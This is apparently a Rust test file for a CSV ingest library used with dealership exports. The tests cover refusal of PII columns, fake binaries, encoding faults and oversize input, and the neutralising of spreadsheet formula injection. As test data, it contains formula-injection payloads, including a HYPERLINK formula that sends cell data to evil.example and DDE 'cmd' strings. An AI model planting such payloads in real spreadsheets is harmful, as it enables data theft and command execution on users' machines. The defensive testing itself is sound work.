//! Hostile and well-formed CSVs through the library API: every refusal kind with its row and
//! column, PII headers in English and French for every profile, formula neutralisation.

use pipeline::ingest::{self, Cell, DeclaredEncoding, Dms, ErrorKind, Export, IngestError, Limits, Options, Profile, Report};

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/testdata/csv/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn run_with(dms: Dms, export: Export, bytes: &[u8], opts: &Options) -> (Report, Vec<Vec<Cell>>) {
    let profile = Profile::get(dms, export).expect("profile exists");
    let mut rows = Vec::new();
    let report = ingest::check(&profile, bytes, opts, |r| rows.push(r.cells.to_vec())).expect("in-memory input is readable");
    (report, rows)
}

fn run(dms: Dms, export: Export, bytes: &[u8]) -> Report {
    run_with(dms, export, bytes, &Options::default()).0
}

fn kinds(r: &Report) -> Vec<(ErrorKind, Option<u64>, Option<&str>)> {
    r.errors.iter().map(|e| (e.kind, e.row, e.column.as_deref())).collect()
}

#[test]
fn valid_cdk_sales_with_bom_is_accepted_and_typed() {
    let (report, rows) = run_with(Dms::Cdk, Export::Sales, &fixture("cdk_sales_valid.csv"), &Options::default());
    assert!(report.accepted, "{:?}", report.errors);
    assert_eq!(report.rows, 2);
    assert_eq!(report.neutralised, 0);
    assert_eq!(report.columns[0], "deal_number");
    let profile = Profile::get(Dms::Cdk, Export::Sales).unwrap();
    let col = |name: &str| profile.columns.iter().position(|c| c.name == name).unwrap();
    // `-12.50` in an amount column is a number, not an injection.
    assert_eq!(format!("{:?}", rows[0][col("back_gross")]), "Decimal(Decimal { mantissa: -1250, scale: 2 })");
    assert_eq!(serde_json::to_string(&rows[0][col("sale_price")]).unwrap(), "\"32450.00\"");
    assert_eq!(serde_json::to_string(&rows[1][col("front_gross")]).unwrap(), "\"-150.00\"");
    assert_eq!(serde_json::to_string(&rows[1][col("deal_date")]).unwrap(), "\"2025-03-08\"");
    assert_eq!(rows[0][col("salesperson_code")], Cell::Code("SP104".into()));
    assert_eq!(rows[0][col("term_months")], Cell::Integer(72));
    // Columns the file lacks are empty.
    assert_eq!(rows[0][col("funded_date")], Cell::Empty);
}

#[test]
fn formula_payloads_in_text_columns_are_neutralised_and_counted() {
    let (report, rows) = run_with(Dms::Cdk, Export::Inventory, &fixture("inventory_injection.csv"), &Options::default());
    assert!(report.accepted, "{:?}", report.errors);
    assert_eq!(report.neutralised, 6);
    let texts: Vec<String> = rows.iter().flatten().filter_map(|c| if let Cell::Text(s) = c { Some(s.clone()) } else { None }).collect();
    for want in
        ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(A1:A9)", "'\t=1+2", "'+cmd|' /C calc'!A0", "'\r=2", "'-Civic"]
    {
        assert!(texts.iter().any(|t| t == want), "{want:?} not in {texts:?}");
    }
    // Nothing that starts with a trigger survives unprefixed.
    assert!(texts.iter().all(|t| !t.starts_with(['=', '+', '-', '@', '\t', '\r'])));
    // A negative amount stays a number.
    assert_eq!(serde_json::to_string(&rows[2][10]).unwrap(), "\"-12.50\"");
}

#[test]
fn signed_amounts_in_service_are_numbers_not_injections() {
    let report = run(Dms::Reynolds, Export::Service, &fixture("reynolds_service_injection.csv"));
    assert!(report.accepted, "{:?}", report.errors);
    assert_eq!(report.neutralised, 0);
}

#[test]
fn formulas_in_numeric_and_code_columns_are_typed_errors() {
    let report = run(Dms::Pbs, Export::Inventory, &fixture("numeric_injection.csv"));
    assert!(!report.accepted);
    assert_eq!(
        kinds(&report),
        [
            (ErrorKind::InvalidValue, Some(2), Some("List Price")),
            (ErrorKind::InvalidValue, Some(3), Some("Year")),
            (ErrorKind::InvalidValue, Some(4), Some("Stock Number")),
        ]
    );
}

#[test]
fn pii_headers_in_english_name_every_offending_column_as_written() {
    let report = run(Dms::Cdk, Export::Sales, &fixture("pii_headers_en.csv"));
    assert!(!report.accepted);
    let pii: Vec<&str> = report.errors.iter().filter(|e| e.kind == ErrorKind::PiiColumn).filter_map(|e| e.column.as_deref()).collect();
    assert_eq!(pii, ["Customer Name", "Cust_Phone", "Email Address", "DOB", "Address1", "SIN", "Driver's Licence #"]);
    assert!(report.errors.iter().all(|e| e.row == Some(1)));
    assert_eq!(report.rows, 0, "no data row is read from a PII file");
}

#[test]
fn pii_headers_in_french_are_refused_for_every_profile_and_export() {
    let bytes = fixture("pii_headers_fr.csv");
    let want = [
        "Nom du client",
        "Prénom",
        "Téléphone",
        "Courriel",
        "Adresse",
        "Code postal",
        "NAS",
        "Date de naissance",
        "Permis de conduire",
        "DDN",
    ];
    for &dms in Dms::ALL {
        for &export in Export::ALL {
            if Profile::get(dms, export).is_none() {
                continue;
            }
            let report = run(dms, export, &bytes);
            let pii: Vec<&str> =
                report.errors.iter().filter(|e| e.kind == ErrorKind::PiiColumn).filter_map(|e| e.column.as_deref()).collect();
            assert_eq!(pii, want, "{dms:?}/{export:?}");
            assert!(!report.accepted);
            assert_eq!(report.rows, 0);
        }
    }
}

#[test]
fn pii_headers_in_english_are_refused_for_every_profile_and_export() {
    let bytes = fixture("pii_headers_en.csv");
    for &dms in Dms::ALL {
        for &export in Export::ALL {
            if Profile::get(dms, export).is_some() {
                let report = run(dms, export, &bytes);
                assert_eq!(report.errors.iter().filter(|e| e.kind == ErrorKind::PiiColumn).count(), 7, "{dms:?}/{export:?}");
            }
        }
    }
}

#[test]
fn binaries_posing_as_csv_are_not_csv() {
    for (name, mimes) in
        [("spreadsheet_renamed.csv", &["zip", "spreadsheet"][..]), ("image_renamed.csv", &["image/png"]), ("nul_heavy.csv", &["NUL"])]
    {
        let report = run(Dms::Cdk, Export::Sales, &fixture(name));
        assert_eq!(kinds(&report), [(ErrorKind::NotCsv, None, None)], "{name}");
        let msg = &report.errors[0].message;
        assert!(mimes.iter().any(|m| msg.contains(m)), "{name}: {msg}");
    }
    // A zip that is not a spreadsheet, and a PDF.
    let mut zip = b"PK\x03\x04".to_vec();
    zip.extend_from_slice(&[0x14, 0, 0, 0, 8, 0]);
    zip.extend_from_slice(&[b'a'; 64]);
    assert_eq!(run(Dms::Cdk, Export::Sales, &zip).errors[0].kind, ErrorKind::NotCsv);
    assert_eq!(run(Dms::Cdk, Export::Sales, b"%PDF-1.7\n1 0 obj\n").errors[0].kind, ErrorKind::NotCsv);
    assert_eq!(run(Dms::Cdk, Export::Sales, b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff").errors[0].kind, ErrorKind::NotCsv);
}

#[test]
fn ragged_rows_name_their_rows() {
    let report = run(Dms::Cdk, Export::Inventory, &fixture("ragged.csv"));
    assert_eq!(kinds(&report), [(ErrorKind::RaggedRow, Some(3), None), (ErrorKind::RaggedRow, Some(4), None)]);
}

#[test]
fn an_unclosed_quote_at_end_of_file_is_refused() {
    let report = run(Dms::Cdk, Export::Inventory, &fixture("unclosed_quote.csv"));
    assert!(!report.accepted);
    assert!(kinds(&report).contains(&(ErrorKind::UnclosedQuote, Some(3), Some("Make"))), "{:?}", report.errors);
    // The same bytes with the quote closed are fine.
    let closed = run(Dms::Cdk, Export::Inventory, b"Stock Number,Make\nS1,Honda\nS2,\"Toyota\nS3\"\n");
    assert!(closed.accepted, "{:?}", closed.errors);
}

#[test]
fn nul_bytes_invalid_utf8_and_utf16_are_refused_with_their_cell() {
    assert_eq!(kinds(&run(Dms::Cdk, Export::Inventory, &fixture("nul_byte.csv"))), [(ErrorKind::NulByte, Some(2), Some("Make"))]);
    assert_eq!(kinds(&run(Dms::Cdk, Export::Inventory, &fixture("invalid_utf8.csv"))), [(ErrorKind::Encoding, Some(2), Some("Make"))]);
    let utf16: Vec<u8> = [0xFF, 0xFE].into_iter().chain("Stock Number\n".encode_utf16().flat_map(u16::to_le_bytes)).collect();
    assert_eq!(kinds(&run(Dms::Cdk, Export::Inventory, &utf16)), [(ErrorKind::Encoding, None, None)]);
}

#[test]
fn windows_1252_is_transcoded_only_when_declared() {
    let bytes = fixture("declared_cp1252.csv");
    let undeclared = run(Dms::Quorum, Export::Inventory, &bytes);
    assert_eq!(kinds(&undeclared), [(ErrorKind::Encoding, Some(2), Some("Make")), (ErrorKind::Encoding, Some(2), Some("Model"))]);
    let opts = Options { encoding: DeclaredEncoding::Windows1252, ..Options::default() };
    let (report, rows) = run_with(Dms::Quorum, Export::Inventory, &bytes, &opts);
    assert!(report.accepted, "{:?}", report.errors);
    assert_eq!(rows[0][3], Cell::Text("Citroën".into()));
    assert_eq!(rows[0][4], Cell::Text("Côte".into()));
}

#[test]
fn empty_header_only_duplicate_unknown_and_missing_columns() {
    assert_eq!(kinds(&run(Dms::Cdk, Export::Inventory, &fixture("empty.csv"))), [(ErrorKind::Empty, None, None)]);
    assert_eq!(kinds(&run(Dms::Cdk, Export::Inventory, b"\xEF\xBB\xBF")), [(ErrorKind::Empty, None, None)]);
    assert_eq!(kinds(&run(Dms::Cdk, Export::Inventory, &fixture("header_only.csv"))), [(ErrorKind::Empty, None, None)]);
    assert_eq!(
        kinds(&run(Dms::Cdk, Export::Inventory, &fixture("duplicate_column.csv"))),
        [(ErrorKind::DuplicateColumn, Some(1), Some("StockNo"))]
    );
    assert_eq!(
        kinds(&run(Dms::Cdk, Export::Inventory, &fixture("unknown_column.csv"))),
        [(ErrorKind::UnknownColumn, Some(1), Some("Comments"))]
    );
    assert_eq!(kinds(&run(Dms::Cdk, Export::Inventory, b"Make,Model\nHonda,Civic\n")), [(ErrorKind::MissingColumn, Some(1), None)]);
}

#[test]
fn bad_values_are_typed_errors_with_row_and_column() {
    let report = run(Dms::Dealertrack, Export::Inventory, &fixture("bad_number.csv"));
    assert_eq!(
        kinds(&report),
        [
            (ErrorKind::InvalidValue, Some(2), Some("Year")),
            (ErrorKind::InvalidValue, Some(2), Some("List Price")),
            (ErrorKind::InvalidValue, Some(2), Some("Received Date")),
        ]
    );
    // Messages never quote the cell.
    assert!(report.errors.iter().all(|e| !e.message.contains("twenty")));
}

#[test]
fn huge_fields_records_and_files_are_too_large() {
    let mut huge = b"Stock Number,Make\nS1,".to_vec();
    huge.extend(std::iter::repeat_n(b'x', 100_000));
    huge.push(b'\n');
    let report = run(Dms::Cdk, Export::Inventory, &huge);
    assert_eq!(kinds(&report), [(ErrorKind::TooLarge, Some(2), Some("Make"))]);
    assert!(report.stats.peak_record_bytes < 64, "the huge field never reached the parser's record");

    // A huge quoted field that also never closes: the limit fires first.
    let mut open = b"Stock Number,Make\nS1,\"".to_vec();
    open.extend(std::iter::repeat_n(b'y', 100_000));
    assert_eq!(run(Dms::Cdk, Export::Inventory, &open).errors[0].kind, ErrorKind::TooLarge);

    let small = Options { limits: Limits { max_file_bytes: 20, ..Limits::default() }, ..Options::default() };
    let (r, _) = run_with(Dms::Cdk, Export::Inventory, b"Stock Number,Make\nS1,Honda\n", &small);
    assert_eq!(kinds(&r), [(ErrorKind::TooLarge, None, None)]);

    let rec = Options { limits: Limits { max_record_bytes: 30, ..Limits::default() }, ..Options::default() };
    let (r, _) = run_with(Dms::Cdk, Export::Inventory, b"Stock Number,Make\nS1,Honda\nS2,aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n", &rec);
    assert_eq!(kinds(&r), [(ErrorKind::TooLarge, Some(3), None)]);
}

#[test]
fn error_budget_stops_reading() {
    let mut bytes = b"Stock Number,Year\n".to_vec();
    for i in 0..500 {
        bytes.extend_from_slice(format!("S{i},notayear\n").as_bytes());
    }
    let opts = Options { limits: Limits { max_errors: 10, ..Limits::default() }, ..Options::default() };
    let (r, _) = run_with(Dms::Cdk, Export::Inventory, &bytes, &opts);
    assert_eq!(r.errors.len(), 11);
    assert_eq!(r.errors[10].kind, ErrorKind::TooManyErrors);
    assert!(r.rows < 500);
}

#[test]
fn error_display_and_kind_names_are_stable() {
    let names: Vec<&str> = ErrorKind::ALL.iter().map(|k| k.name()).collect();
    for required in [
        "pii_column",
        "unknown_column",
        "not_csv",
        "encoding",
        "ragged_row",
        "unclosed_quote",
        "nul_byte",
        "too_large",
        "empty",
        "duplicate_column",
    ] {
        assert!(names.contains(&required), "{required}");
    }
    let e = IngestError::at_cell(ErrorKind::PiiColumn, 1, 0, Some("Nom"), "x");
    assert_eq!(e.to_string(), "pii_column at row 1 in column \"Nom\": x");
}

#[test]
fn every_trigger_is_neutralised_in_text_but_not_in_the_middle() {
    let csv = b"Stock Number,Make,Model,Trim\nS1,-2+3,@SUM(1+1)*cmd|' /C calc'!A0,\"\t=1\"\nS2,a=1,b+2,\"c\t=\"\n";
    let (report, rows) = run_with(Dms::Pbs, Export::Inventory, csv, &Options::default());
    assert!(report.accepted, "{:?}", report.errors);
    assert_eq!(report.neutralised, 3);
    assert_eq!(rows[0][3], Cell::Text("'-2+3".into()));
    assert_eq!(rows[0][4], Cell::Text("'@SUM(1+1)*cmd|' /C calc'!A0".into()));
    assert_eq!(rows[0][5], Cell::Text("'\t=1".into()));
    assert_eq!(rows[1][3], Cell::Text("a=1".into()));
    assert_eq!(rows[1][5], Cell::Text("c\t=".into()));
}
